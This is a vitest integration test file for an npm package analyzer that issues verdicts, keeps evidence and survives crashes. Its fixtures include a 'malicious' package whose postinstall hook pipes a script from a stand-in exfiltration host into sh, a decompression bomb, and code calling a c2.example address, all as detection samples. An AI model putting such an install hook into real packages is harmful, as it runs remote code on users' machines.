import { spawn } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeCompactFacts } from '@weir/evidence';
import { evidenceBundleSchema } from '@weir/model';
import { readKeptFiles } from '@weir/platform';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { tarball } from '@weir/testkit/archive';
import { kafkaForTests } from '@weir/testkit/kafka';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { type FileServer, startFileServer } from './testing/file-server.ts';
import { type AnalyzerHarness, digestsOf, openHarness } from './testing/harness.ts';

/** A killed process' messages come back within 30 s; the rest is a busy machine's. */
const PATIENCE_MS = 55_000;

const kafka = await kafkaForTests();
let postgres: TestPostgres;
let databaseUrl: string;
let server: FileServer;
let dataDir: string;
let harness: AnalyzerHarness;
let evidenceDir: string;

beforeAll(async () => {
  postgres = await startTestPostgres();
});
afterAll(() => postgres[Symbol.asyncDispose]());
beforeEach(async () => {
  databaseUrl = await postgres.createDatabase();
  server = await startFileServer();
  dataDir = await mkdtemp(join(tmpdir(), 'weir-analyzer-data-'));
  evidenceDir = join(dataDir, 'evidence');
  harness = await openHarness({ databaseUrl, origin: server.origin, evidenceDir });
});
afterEach(async () => {
  await harness[Symbol.asyncDispose]();
  await server[Symbol.asyncDispose]();
  await rm(dataDir, { recursive: true, force: true });
});

function until(check: () => Promise<void> | void): Promise<void> {
  return vi.waitFor(check, { timeout: PATIENCE_MS, interval: 50 });
}

function benign(name: string): Buffer {
  return tarball()
    .file('package/package.json', JSON.stringify({ name, version: '1.0.0', main: 'index.js' }))
    .file('package/index.js', 'exports.add = (a, b) => a + b;\n')
    .build();
}

function malicious(name: string): Buffer {
  const scripts = { postinstall: 'curl -s https://exfil.weir.test/x.sh | sh' };
  return tarball()
    .file('package/package.json', JSON.stringify({ name, version: '1.0.0', scripts }))
    .file('package/index.js', 'module.exports = 1;\n')
    .build();
}

describe('the analyzer on real parts', () => {
  it('carries files to verdicts, in order of the public feed, with evidence of the dangerous one', async () => {
    const names = ['a', 'b', 'evil'];
    for (const name of names) {
      const bytes = name === 'evil' ? malicious(name) : benign(name);
      server.answer(`/${name}`, bytes);
      await harness.announce(name, digestsOf(bytes));
    }

    await harness.listen();
    await harness.start();

    await until(() => expect(harness.verdicts).toHaveLength(3));
    const verdictOf = new Map(
      harness.verdicts.map(({ data }) => [data.release.name, data.judgement.verdict]),
    );
    expect(Object.fromEntries(verdictOf)).toEqual({ a: 'benign', b: 'benign', evil: 'malicious' });
    await until(async () => expect(await harness.store.verdicts.listSince('0', 10)).toHaveLength(3));
    expect(await harness.store.stats()).toMatchObject({ files: 3, analyses: 3, parked: 0, gaps: 0 });

    const [{ data: evil } = { data: null }] = harness.verdicts.filter(
      ({ data }) => data.release.name === 'evil',
    );
    const artifact = await harness.evidence.get(evil?.artifactSha256 ?? '');
    expect(Buffer.from(artifact ?? []).equals(malicious('evil'))).toBe(true);
    const [row] = await harness.query(
      "SELECT encode(evidence_sha256, 'hex') AS sha256 FROM analyses WHERE evidence_sha256 IS NOT NULL",
    );
    const bundle = await harness.evidence.get(String(row?.sha256));
    expect(evidenceBundleSchema.parse(JSON.parse(Buffer.from(bundle ?? []).toString())).verification).toEqual(
      {
        outcome: 'match',
        algorithm: 'sha512',
      },
    );
    const kinds = await harness.query(
      'SELECT kind, count(*)::int AS blobs FROM evidence_blobs GROUP BY 1 ORDER BY 1',
    );
    expect(kinds).toEqual([
      { kind: 'artifact', blobs: 1 },
      { kind: 'bundle', blobs: 1 },
      { kind: 'kept', blobs: 3 },
    ]);
    expect(await harness.evidence.measure()).toMatchObject({ blobs: 5 });
    expect(
      await harness.store.releases.lookupDigest('sha512', digestsOf(benign('a')).sha512 ?? ''),
    ).toMatchObject({ kind: 'verdict', judgement: { verdict: 'benign' } });
  });

  it('waits for a file that comes late, and gives up one that never comes', async () => {
    await harness.announce('late');
    await harness.announce('never');
    await harness.listen();
    await harness.start();
    await until(() => expect(server.asked('/late')).toBeGreaterThan(0));
    server.answer('/late', benign('late'));

    await until(() => expect(harness.verdicts).toHaveLength(2));

    const verdicts = Object.fromEntries(harness.verdicts.map(({ data }) => [data.release.name, data]));
    expect(verdicts.late?.judgement.verdict).toBe('benign');
    expect(verdicts.never).toMatchObject({
      judgement: { verdict: 'inconclusive' },
      artifactSha256: null,
      analysisId: null,
    });
    expect(server.asked('/never')).toBe(3);
    expect(await harness.store.stats()).toMatchObject({ analyses: 1, gaps: 1, parked: 0 });
    expect(await harness.query('SELECT state FROM release_files ORDER BY filename')).toEqual([
      { state: 'fetched' },
      { state: 'gone' },
    ]);
  });

  it('records bytes with a wrong digest as a mismatch, and parks a locator to a foreign host', async () => {
    server.answer('/swapped', benign('swapped'));
    await harness.announce('swapped', digestsOf(Buffer.from('what was published')));
    await harness.announce('foreign', {}, 'http://elsewhere.invalid');
    await harness.listen();
    await harness.start();

    await until(() => expect(harness.verdicts).toHaveLength(1));

    expect(harness.verdicts[0]?.data).toMatchObject({
      judgement: { verdict: 'suspicious', complete: false },
      topFindings: [{ rule: 'fetch/digest-mismatch' }],
    });
    const states = await harness.query("SELECT state FROM release_files WHERE filename LIKE 'swapped%'");
    expect(states).toEqual([{ state: 'mismatch' }]);
    await until(async () => expect((await harness.store.stats()).parked).toBe(1));
    expect((await harness.store.parked.list({ limit: 5 }))[0]).toMatchObject({
      group: 'analyzer',
      reason: 'LOCATOR_REFUSED',
      step: 'fetch',
      error: expect.stringContaining('pkg:npm/foreign@1.0.0'),
    });
  });
});

describe('the slow lane', () => {
  /** Unpacks to some 400 times its size: over what a live analysis may read, within what a slow one may. */
  function padded(name: string): Buffer {
    return tarball()
      .file('package/package.json', JSON.stringify({ name, version: '1.0.0', main: 'index.js' }))
      .file('package/noise.bin', randomBytes(100_000))
      .bomb(64 * 2 ** 20)
      .file('package/index.js', 'exports.add = (a, b) => a + b;\n')
      .build();
  }

  it('analyses again what exhausted a budget, and its verdict replaces the live one', async () => {
    const bytes = padded('large');
    server.answer('/large', bytes);
    await harness.announce('large', digestsOf(bytes));
    await harness.listen();
    await harness.start();

    await until(() => expect(harness.verdicts).toHaveLength(2));
    await until(async () => expect(await harness.store.rechecks.count('slow-analysis')).toBe(0));

    const [live, slow] = harness.verdicts.map(({ data }) => data);
    expect(live?.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(slow?.judgement).toMatchObject({ verdict: 'benign', complete: true });
    expect(slow).toMatchObject({
      supersedes: live?.verdictId,
      rulesetVersion: `${live?.rulesetVersion}+slow`,
      artifactSha256: live?.artifactSha256,
    });
    expect(await harness.store.stats()).toMatchObject({ files: 1, analyses: 2, parked: 0 });
    expect(await harness.store.releases.lookupDigest('sha512', digestsOf(bytes).sha512 ?? '')).toMatchObject({
      kind: 'verdict',
      judgement: { verdict: 'benign' },
    });
  });

  it('leaves the live verdict alone when the file is gone by then', async () => {
    const bytes = padded('gone');
    server.answer('/gone', bytes);
    const fileId = await harness.announce('gone', digestsOf(bytes));
    await harness.start({ slow: false });
    await until(async () => expect(await harness.store.rechecks.count('slow-analysis')).toBe(1));
    await until(async () => expect((await harness.store.stats()).analyses).toBe(1));
    server.answer('/gone', 404);
    await harness.start();

    await until(async () => expect(await harness.store.rechecks.count('slow-analysis')).toBe(0));

    expect(await harness.store.stats()).toMatchObject({ analyses: 1, gaps: 0, parked: 0 });
    expect((await harness.store.releases.findFile(fileId))?.state).toBe('fetched');
  });
});

describe('what a release leaves', () => {
  const setup = "require('https').get('https://c2.example/x');\n";

  function version(number: string, files: Readonly<Record<string, string>>): Buffer {
    const archive = tarball().file(
      'package/package.json',
      JSON.stringify({ name: 'pkg', version: number, main: 'index.js' }),
    );
    for (const [path, text] of Object.entries(files)) archive.file(`package/${path}`, text);
    return archive.build();
  }

  it('is at hand for the next one, which keeps what changed only', async () => {
    server.answer('/pkg', version('1.0.0', { 'index.js': 'exports.a = 1;\n', 'same.js': setup }));
    server.answer(
      '/pkg-1.1.0',
      version('1.1.0', { 'index.js': `require('./same.js');\n`, 'same.js': setup }),
    );
    await harness.announce('pkg');
    await harness.announce('pkg', {}, server.origin, { version: '1.1.0', previous: '1.0.0' });

    await harness.listen();
    await harness.start();
    await until(() => expect(harness.verdicts).toHaveLength(2));

    const { evidence: kept } = harness.store;
    const [first] = await kept.findFacts('npmjs', 'pkg', '1.0.0');
    const facts = decodeCompactFacts(first?.facts ?? new Uint8Array());
    expect(facts.files.map(({ path, stage }) => [path, stage])).toEqual([
      ['index.js', 'import'],
      ['package.json', 'dead'],
      ['same.js', 'dead'],
    ]);
    const packed = async (number: string): Promise<string[]> =>
      (await readKeptFiles({ store: harness.store, evidenceDir }, release(number))).map(({ path }) => path);
    expect(await packed('1.0.0')).toEqual(['index.js', 'package.json', 'same.js']);
    expect(await packed('1.1.0')).toEqual(['index.js', 'package.json']);
    const same = facts.files[2]?.sha256 ?? '';
    expect((await kept.sightingsOfFile(same, 10)).map(({ purl }) => purl).toSorted()).toEqual([
      'pkg:npm/pkg@1.0.0',
      'pkg:npm/pkg@1.1.0',
    ]);
    // Nothing reached the file in 1.0.0; both releases are benign.
    const hunted = await kept.sightingsOfIndicator('domain', 'c2.example', 10);
    expect(hunted.map(({ purl }) => purl)).toEqual(['pkg:npm/pkg@1.1.0']);
  });

  function release(number: string) {
    return { registry: 'npmjs', name: 'pkg', version: number } as const;
  }
});

describe.skipIf(kafka.kind === 'absent')('the analyzer on Kafka', () => {
  it('carries files to verdicts, also one that comes late', async () => {
    const brokers = kafka.kind === 'ready' ? kafka.brokers : [];
    await using onKafka = await openHarness({
      databaseUrl,
      origin: server.origin,
      evidenceDir: join(dataDir, 'evidence'),
      kafka: { brokers, topicPrefix: `analyzer-${randomUUID().slice(0, 8)}.` },
    });
    server.answer('/evil', malicious('evil'));
    await onKafka.announce('late');
    await onKafka.announce('evil', digestsOf(malicious('evil')));
    await onKafka.listen();
    await onKafka.start();
    await until(() => expect(server.asked('/late')).toBeGreaterThan(0));
    server.answer('/late', benign('late'));

    await until(() => expect(onKafka.verdicts).toHaveLength(2));

    const verdicts = onKafka.verdicts.map(({ data }) => [data.release.name, data.judgement.verdict]);
    expect(Object.fromEntries(verdicts)).toEqual({ evil: 'malicious', late: 'benign' });
    expect(await onKafka.store.stats()).toMatchObject({ analyses: 2, parked: 0, gaps: 0 });
  });
});

describe('a killed analyzer program', () => {
  it.each(['analyzer.before-commit', 'analyzer.after-commit'])(
    'at %s leaves each file one analysis and one verdict',
    { timeout: 150_000 },
    async (failpoint) => {
      const names = Array.from({ length: 6 }, (_, index) => `p${index}`);
      for (const name of names) {
        server.answer(`/${name}`, malicious(name));
        await harness.announce(name);
      }
      const log = join(dataDir, 'failpoints.log');
      const child = spawn(process.execPath, [join(import.meta.dirname, 'main.ts')], {
        env: {
          PATH: '/usr/bin:/bin',
          DATABASE_URL: databaseUrl,
          WEIR_DATA: dataDir,
          WEIR_NPM_DOCUMENTS_URL: server.origin,
          WEIR_HTTP_PORT: '0',
          WEIR_FAILPOINTS: `${failpoint}:3`,
          WEIR_FAILPOINT_LOG: log,
        },
        stdio: 'ignore',
      });

      const [, signal] = await once(child, 'exit');
      const fired = await readFile(log, 'utf8');
      // Blobs are there before the transaction that names them: a collection leaves what is young.
      const blobs = await harness.evidence.measure();
      const [noted] = await harness.query('SELECT count(DISTINCT sha256)::int AS blobs FROM evidence_blobs');
      expect(blobs.blobs - Number(noted?.blobs)).toBeGreaterThan(
        failpoint === 'analyzer.before-commit' ? 0 : -1,
      );
      const referenced = (digests: readonly string[]) => harness.store.evidence.findReferenced(digests);
      expect(await harness.evidence.collectOrphans(referenced)).toMatchObject({ blobs: 0 });
      await harness.listen();
      await harness.start();

      expect([signal, fired]).toEqual(['SIGKILL', `${failpoint}\n`]);
      await until(() => expect(new Set(harness.verdicts.map(({ data }) => data.fileId)).size).toBe(6));
      expect(await harness.store.stats()).toMatchObject({ files: 6, analyses: 6, parked: 0 });
      const verdictIds = harness.verdicts.map(({ data }) => data.verdictId);
      expect(new Set(verdictIds).size).toBe(6);
      expect(await harness.query('SELECT count(*)::int AS rows FROM verdict_log')).toEqual([{ rows: 6 }]);
      // What was cut off came back with the same digests: nothing is an orphan now, however old.
      expect(await harness.evidence.collectOrphans(referenced, { graceMs: -1000 })).toMatchObject({
        blobs: 0,
      });
      expect((await harness.evidence.measure()).blobs).toBe(3 * 6);
    },
  );
});
